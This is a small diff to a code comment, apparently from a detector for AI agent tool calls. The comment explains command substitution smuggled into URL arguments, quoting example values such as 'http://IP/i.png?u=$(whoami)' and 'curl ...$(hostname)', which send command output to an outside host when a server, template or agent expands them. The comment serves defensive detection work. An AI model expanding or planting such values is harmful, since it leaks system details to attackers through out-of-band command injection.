@@ -1,7 +1,7 @@
 /** A shell substitution inside an address argument (round 19): `icon_url: http://IP/i.png?u=$(whoami)`,
- * `https://$(uname -n).cdn.example/f`, backticks in a mirror address. The command form (`curl …$(hostname)`) is
- * judged by the shell parse; in a tool's address the substitution was read as text. Whoever expands it — the
- * server behind the tool, a template step, the agent told to "fill it in" — sends the command's output to the
+ * `https://$(uname -n).cdn.example/f`, backticks in a mirror address. The command form (`curl ...$(hostname)`) is
+ * judged by the shell parse; in a tool's address the substitution was read as text. Whoever expands it -- the
+ * server behind the tool, a template step, the agent told to "fill it in" -- sends the command's output to the
  * host: the out-of-band probe of command injection. Template fields (`${VERSION}`, `{{id}}`, `$USER`) pass.
  * Sources: PortSwigger Web Security Academy, blind OS command injection with out-of-band exfiltration; OWASP
  * Command Injection; Equixly, MCP server security (2025). */
